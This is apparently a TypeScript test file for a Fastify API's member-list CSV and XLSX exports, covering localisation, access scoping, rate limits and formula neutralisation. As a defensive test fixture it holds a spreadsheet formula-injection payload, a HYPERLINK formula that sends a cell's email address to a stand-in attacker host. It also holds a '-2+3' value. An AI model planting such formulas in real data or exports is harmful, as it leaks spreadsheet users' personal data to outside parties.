import type { FastifyInstance } from 'fastify'
import { describe, expect } from 'vitest'
import { it } from '../testing/app.ts'
import { csvRows, download, expectExportScoped, xlsxSheet } from '../testing/exports.ts'
import { bearer, createUser, type TestUser, tokenFor } from '../testing/factories.ts'
import { importCivicBasics } from '../testing/learning.ts'

const base = '/api/v1/learning-clusters'
const header = [
  'Name',
  'E-mail',
  'Municipality',
  'Country',
  'Joined (UTC)',
  'Source',
  'Left (UTC)',
  'Reason for leaving',
]
const hyperlink = '=HYPERLINK("https://evil.example/?d="&B2,"Detalji")'

interface Setup {
  clusterId: string
  coordinator: TestUser
  otherCoordinator: TestUser
  trainer: TestUser
  learner: TestUser
}

let setup: Setup | undefined

/** A cluster of skgo with three members from Serbian places; one left, with a reason. */
async function setUp(app: FastifyInstance): Promise<Setup> {
  if (setup) return setup
  await importCivicBasics(app)
  const coordinator = await createUser(app, { roles: ['coordinator'], association: 'skgo' })
  const as = bearer(tokenFor(app, coordinator))
  const created = await app.inject({
    method: 'POST',
    url: base,
    headers: as,
    payload: {
      name: 'Ljudska prava: Čačak i Niš',
      startsOn: '2027-02-01',
      endsOn: '2027-05-31',
      capacity: 10,
      courses: [{ courseSlug: 'civic-basics', languages: ['en'] }],
    },
  })
  const clusterId = created.json().id as string
  const djordje = await createUser(app, {
    name: 'Đorđe Šćekić',
    municipality: { country: 'RS', name: 'Čačak' },
  })
  const attacker = await createUser(app, {
    name: hyperlink,
    municipality: { country: 'RS', name: 'Niš' },
  })
  const direct = await createUser(app, { name: 'Ana Udruženje', association: 'skgo' })
  const added = await app.inject({
    method: 'POST',
    url: `${base}/${clusterId}/members`,
    headers: as,
    payload: { userIds: [djordje.id, attacker.id, direct.id] },
  })
  expect(added.statusCode, added.body).toBe(200)
  const left = await app.inject({
    method: 'POST',
    url: `${base}/${clusterId}/members/${direct.id}/withdrawal`,
    headers: as,
    payload: { reason: '-2+3 premeštena u drugo odeljenje' },
  })
  expect(left.statusCode, left.body).toBe(204)
  const trainer = await createUser(app, { roles: ['trainer'], association: 'skgo' })
  await app.inject({
    method: 'PUT',
    url: `${base}/${clusterId}/trainers/${trainer.id}`,
    headers: as,
  })
  setup = {
    clusterId,
    coordinator,
    otherCoordinator: await createUser(app, { roles: ['coordinator'], association: 'zels' }),
    trainer,
    learner: djordje,
  }
  return setup
}

/** The members as the list shows them, to compare with what the files say. */
const expectedRows = (emails: Record<string, string>) => [
  [`'${hyperlink}`, emails.attacker, 'Niš', 'RS', 'assignment', ''],
  ['Ana Udruženje', emails.direct, '', 'RS', 'assignment', "'-2+3 premeštena u drugo odeljenje"],
  ['Đorđe Šćekić', emails.djordje, 'Čačak', 'RS', 'assignment', ''],
]

async function emailsOf(app: FastifyInstance, clusterId: string) {
  const rows = await app.db
    .selectFrom('clusterMembers as cm')
    .innerJoin('users as u', 'u.id', 'cm.userId')
    .select(['u.name', 'u.email'])
    .where('cm.clusterId', '=', clusterId)
    .execute()
  const by = (name: string) => rows.find((row) => row.name === name)!.email
  return { direct: by('Ana Udruženje'), djordje: by('Đorđe Šćekić'), attacker: by(hyperlink) }
}

// The first test also builds the file's app and the world it reads, on a machine shared with
// other test files.
describe('members export', { timeout: 90_000 }, () => {
  it('CSV: every member, current and former, with place and dates; formulas neutralised', async ({
    app,
  }) => {
    const { clusterId, coordinator } = await setUp(app)
    const rows = csvRows(
      await download(app, coordinator, `${base}/${clusterId}/exports/members.csv`),
      'members-Ljudska-prava-Cacak-i-Nis.csv',
    )
    expect(rows[0]).toEqual(header)
    const emails = await emailsOf(app, clusterId)
    // Name, e-mail, municipality, country, source, reason: the dates are checked by shape.
    expect(rows.slice(1).map((row) => [...row.slice(0, 4), row[5], row[7]])).toEqual(
      expectedRows(emails),
    )
    for (const row of rows.slice(1)) expect(row[4]).toMatch(/^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d$/)
    expect(rows.map((row) => row[6] !== '')).toEqual([true, false, true, false])
  })

  it('XLSX: the same members, read by another library; no cell is a formula', async ({ app }) => {
    const { clusterId, coordinator } = await setUp(app)
    const sheet = await xlsxSheet(
      await download(app, coordinator, `${base}/${clusterId}/exports/members.xlsx`),
      'members-Ljudska-prava-Cacak-i-Nis.xlsx',
    )
    expect(sheet.name).toBe('Members')
    expect(sheet.rows[0]).toEqual(header)
    const emails = await emailsOf(app, clusterId)
    expect(
      sheet.rows.slice(1).map((row) => [...row.slice(0, 4), row[5], row[7]].map((c) => c ?? '')),
    ).toEqual(expectedRows(emails))
    for (const row of sheet.rows.slice(1)) expect(row[4]).toBeInstanceOf(Date)
  })

  it('in Serbian with ?lang=sr-Latn (Cyrillic with sr-Cyrl); an unknown language is refused', async ({
    app,
  }) => {
    const { clusterId, coordinator } = await setUp(app)
    const path = `${base}/${clusterId}/exports/members`
    const rows = csvRows(await download(app, coordinator, `${path}.csv?lang=sr-Latn`))
    expect(rows[0]).toEqual([
      'Ime i prezime',
      'E-adresa',
      'Opština',
      'Država',
      'Pridruživanje (UTC)',
      'Način prijema',
      'Odlazak (UTC)',
      'Razlog odlaska',
    ])
    expect(new Set(rows.slice(1).map((row) => row[5]))).toEqual(new Set(['dodela']))
    const sheet = await xlsxSheet(await download(app, coordinator, `${path}.xlsx?lang=sr-Cyrl`))
    expect(sheet.name).toBe('Чланови')
    expect(sheet.rows[0]!.slice(0, 3)).toEqual(['Име и презиме', 'Е-адреса', 'Општина'])
    // The data stay as they were written.
    expect(sheet.rows.map((row) => row[2])).toContain('Čačak')
    const unknown = await download(app, coordinator, `${path}.csv?lang=xx`)
    expect(unknown.statusCode).toBe(400)
    expect(unknown.json().errors[0]).toMatchObject({ pointer: '/query/lang' })
  })

  it("the cluster's trainers may download it; another association's coordinator finds no cluster", async ({
    app,
  }) => {
    const { clusterId, trainer, otherCoordinator, learner, coordinator } = await setUp(app)
    const path = `${base}/${clusterId}/exports/members`
    for (const format of ['csv', 'xlsx'])
      expect((await download(app, trainer, `${path}.${format}`)).statusCode).toBe(200)
    await expectExportScoped(app, path, { otherCoordinator, refused: learner })
    const unknown = await download(
      app,
      coordinator,
      `${base}/00000000-0000-4000-8000-000000000000/exports/members.csv`,
    )
    expect(unknown.statusCode).toBe(404)
  })

  it('a person may download an export 30 times a minute; then 429 with Retry-After', async ({
    app,
  }) => {
    const { clusterId } = await setUp(app)
    const coordinator = await createUser(app, { roles: ['coordinator'], association: 'skgo' })
    const url = `${base}/${clusterId}/exports/members.csv`
    for (let i = 0; i < 30; i++)
      expect((await download(app, coordinator, url)).statusCode, `download ${i + 1}`).toBe(200)
    const refused = await download(app, coordinator, url)
    expect(refused.statusCode).toBe(429)
    expect(refused.headers['retry-after']).toBeDefined()
    // Another person is not held back by the first one's downloads.
    expect((await download(app, setup!.coordinator, url)).statusCode).toBe(200)
  })
})
